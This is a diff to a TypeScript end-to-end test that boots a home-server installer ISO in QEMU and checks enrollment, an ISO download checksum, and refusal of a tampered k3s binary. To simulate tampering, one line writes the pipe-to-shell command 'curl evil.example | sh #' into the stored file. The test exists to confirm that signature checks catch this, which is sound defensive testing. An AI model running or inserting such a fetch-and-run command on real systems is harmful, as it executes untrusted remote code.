@@ -3,17 +3,31 @@
  * enroll-server on loopback, boot the ISO in QEMU (TCG, 2 GiB, blank disk, user networking) and
  * drive the serial console: checks, key, disk choice and confirmation, install, reboot from the
  * disk alone, pending, approval, join, active; then restart from the disk and see the same node.
+ * The server signs with a release key made before the build, which the image carries: the join
+ * downloads a k3s the test uploaded, refuses it while its bytes on the server's disk are changed,
+ * and verifies, installs and starts it once they are restored. The booted ISO itself is uploaded
+ * and downloaded again from /download/homenode.iso.
  * Inside the live system the image reports its own software on a second serial port: Node 24, the
  * NVIDIA driver's nvidia-smi and the gpu check with the real programs (a VM has no NVIDIA GPU), fio
  * and sysbench. The serial logs are kept under test-results/iso/.
  */
-import { spawn } from 'node:child_process';
-import { copyFileSync, mkdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
+import { copyFileSync, mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Check } from '../../protocol/hardware.js';
 import { NODE_RUNTIME } from '../../scripts/node-runtime.js';
 import { ROOT, startEnrollServer, type EnrollServer } from './enroll-server-process.js';
+import { durations, MIN, phase, runInherit, until } from './harness.js';
+import {
+  adminUpload,
+  downloadSha256,
+  K3S_STARTED,
+  K3S_VERSION,
+  sha256,
+  sha256OfFile,
+  standInK3s,
+  testReleaseKey,
+} from './node-software.js';
 import { type Section, waitForSelftest } from './selftest-report.js';
 import { OVMF_VARS, SerialConsole } from './serial-console.js';
 
@@ -23,50 +37,11 @@ const SERIAL_LOG = join(RESULTS, 'serial.log');
 const SELFTEST_LOG = join(RESULTS, 'selftest.log');
 const DISK = join(RESULTS, 'disk.img');
 const UEFI_VARS = join(RESULTS, 'uefi-vars.fd');
-const MIN = 60_000;
-
-const durations: [string, number][] = [];
-async function phase<T>(name: string, fn: () => Promise<T>): Promise<T> {
-  const t0 = performance.now();
-  try {
-    return await fn();
-  } finally {
-    const s = (performance.now() - t0) / 1000;
-    durations.push([name, s]);
-    process.stdout.write(`[iso] ${name}: ${s.toFixed(1)} s\n`);
-  }
-}
-
-function runInherit(program: string, args: string[], timeoutMs: number): Promise<void> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(program, args, { cwd: ROOT, stdio: ['ignore', 'inherit', 'inherit'] });
-    const timer = setTimeout(() => child.kill('SIGTERM'), timeoutMs);
-    child.on('error', (error) => {
-      clearTimeout(timer);
-      reject(error);
-    });
-    child.on('exit', (code, signal) => {
-      clearTimeout(timer);
-      if (code === 0) resolve();
-      else reject(new Error(`${program} ${args.join(' ')} failed (${code ?? signal})`));
-    });
-  });
-}
-
 interface NodeView {
   id: string;
   status: string;
   online: boolean;
-}
-
-async function until<T>(what: string, timeoutMs: number, probe: () => Promise<T | undefined>): Promise<T> {
-  const deadline = Date.now() + timeoutMs;
-  for (;;) {
-    const value = await probe();
-    if (value !== undefined) return value;
-    if (Date.now() > deadline) throw new Error(`${what} did not happen within ${timeoutMs / 1000} s`);
-    await new Promise((r) => setTimeout(r, 1000));
-  }
+  flags: { kind: string; message: string }[];
 }
 
 describe('the Home Node ISO in QEMU', () => {
@@ -74,6 +49,7 @@ describe('the Home Node ISO in QEMU', () => {
   let vm: SerialConsole | undefined;
   let nodeId = '';
   let selftest: Map<string, Section> | undefined;
+  let keyFile = '';
 
   const node = async () => (await server.api<NodeView>('GET', `/v1/nodes/${nodeId}`)).body;
 
@@ -81,6 +57,11 @@ describe('the Home Node ISO in QEMU', () => {
     rmSync(RESULTS, { recursive: true, force: true });
     mkdirSync(RESULTS, { recursive: true });
     process.stdout.write(`[iso] serial log: ${SERIAL_LOG}\n`);
+    // The image must carry the server's release key, and the ISO is built before the server
+    // starts: a key file made first (kept in dist/ for --reuse) serves both.
+    const releaseKey = await testReleaseKey();
+    process.stdout.write(`[iso] release key: ${releaseKey.x} (${releaseKey.privateFile})\n`);
+    keyFile = releaseKey.privateFile;
     await phase('build (or reuse) the test ISO', () =>
       runInherit(
         'npx',
@@ -92,6 +73,8 @@ describe('the Home Node ISO in QEMU', () => {
           // QEMU's host address is not loopback inside the guest: plain http needs the explicit consent.
           '--allow-insecure-http',
           '--test-standins',
+          '--release-key',
+          releaseKey.publicFile,
           '--reuse',
         ],
         15 * MIN,
@@ -99,7 +82,7 @@ describe('the Home Node ISO in QEMU', () => {
     );
     // A blank 16 GiB disk (sparse raw file: no qemu-img needed).
     truncateSync((writeFileSync(DISK, ''), DISK), 16 * 1024 ** 3);
-    server = await phase('start the enroll-server on 127.0.0.1:8080', () => startEnrollServer());
+    server = await phase('start the enroll-server on 127.0.0.1:8080', () => startEnrollServer(keyFile));
   });
 
   afterAll(async () => {
@@ -108,6 +91,26 @@ describe('the Home Node ISO in QEMU', () => {
     process.stdout.write(
       `[iso] phases:\n${durations.map(([n, s]) => `  ${s.toFixed(1).padStart(7)} s  ${n}`).join('\n')}\n[iso] serial log: ${SERIAL_LOG}\n`,
     );
+  });
+
+  it('serves the ISO it boots at /download/homenode.iso, with its checksum', async () => {
+    const fileSha = await sha256OfFile(ISO);
+    const built = readFileSync(`${ISO}.sha256`, 'utf8').split(/\s+/)[0];
+    expect(built, "build:iso's own .sha256").toBe(fileSha);
+    const uploaded = await phase('upload the ISO (homenode-iso) and download it again', async () => {
+      const answer = await adminUpload(server, 'homenode-iso', '2026.12.1-test', ISO);
+      const download = await downloadSha256(server, '/download/homenode.iso');
+      const checksum = await fetch(`${server.url}/download/homenode.iso.sha256`);
+      return { answer, download, checksum: { status: checksum.status, text: await checksum.text() } };
+    });
+    process.stdout.write(
+      `[iso] /download/homenode.iso: ${uploaded.download.bytes} bytes, sha256 ${uploaded.download.sha256}\n`,
+    );
+    expect(uploaded.answer.sha256).toBe(fileSha);
+    expect(uploaded.download.status).toBe(200);
+    expect(uploaded.download.sha256).toBe(fileSha);
+    expect(uploaded.checksum.status).toBe(200);
+    expect(uploaded.checksum.text.trim()).toBe(`${fileSha}  homenode.iso`);
   });
 
   it('boots the ISO by UEFI (OVMF) to the setup screen', async () => {
@@ -265,10 +268,50 @@ describe('the Home Node ISO in QEMU', () => {
     );
     expect((await node()).status).toBe('pending');
     await disk.expect(/Status: pending/, 2 * MIN);
+    // The k3s the join names, uploaded by the operator CLI and signed by the server; then someone
+    // changes its bytes on the server's disk (same size): the signature still names the original.
+    const k3sFile = join(RESULTS, `k3s-${K3S_VERSION}`);
+    const k3s = standInK3s();
+    writeFileSync(k3sFile, k3s);
+    const uploaded = await adminUpload(server, 'k3s', K3S_VERSION, k3sFile);
+    expect(uploaded.sha256).toBe(sha256(k3s));
+    const blob = join(server.dataDir, 'artifacts/sha256', uploaded.sha256);
+    const tampered = Buffer.from(k3s);
+    tampered.write('curl evil.example | sh #', 200, 'latin1');
+    writeFileSync(blob, tampered);
+
     const approved = await server.api('POST', `/v1/nodes/${nodeId}/approve`, { note: 'ISO test' });
     expect(approved.status).toBe(200);
-    await phase('approval to join and active', async () => {
+    const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+    await phase('approval, the changed k3s refused', async () => {
       await disk.expect(/Joining the cluster/, 3 * MIN);
+      await disk.expect(
+        new RegExp(
+          `k3s ${escape(K3S_VERSION)} was refused and not installed: the downloaded file's SHA-256 is ` +
+            `${sha256(tampered)}, not the signed ${uploaded.sha256}\\.`,
+        ),
+        3 * MIN,
+        'the refusal of the changed k3s',
+      );
+      const flag = await until('an artifact-refused flag in the node detail', MIN, async () =>
+        (await node()).flags.find((f) => f.kind === 'artifact-refused'),
+      );
+      process.stdout.write(`[iso] node detail flag artifact-refused: ${flag.message}\n`);
+      expect(flag.message).toContain(`not the signed ${uploaded.sha256}`);
+      expect((await node()).status).toBe('approved');
+    });
+    // The operator restores the right bytes; the agent's next try downloads, verifies, installs
+    // and starts them.
+    writeFileSync(blob, k3s);
+    await phase('retry: the k3s downloaded, verified, installed, started; active', async () => {
+      await disk.expect(/Trying the join again in/, 2 * MIN);
+      await disk.expect(new RegExp(`Downloading k3s ${escape(K3S_VERSION)} `), 3 * MIN);
+      await disk.expect(/k3s installed at \/var\/lib\/homenode\/test\/k3s\/k3s\./, 3 * MIN);
+      await disk.expect(
+        new RegExp(`${escape(K3S_STARTED)} agent --config /var/lib/homenode/test/k3s/config\\.yaml`),
+        3 * MIN,
+        'the uploaded k3s started by the unit',
+      );
       await until('status active', 5 * MIN, async () =>
         (await node()).status === 'active' ? true : undefined,
       );
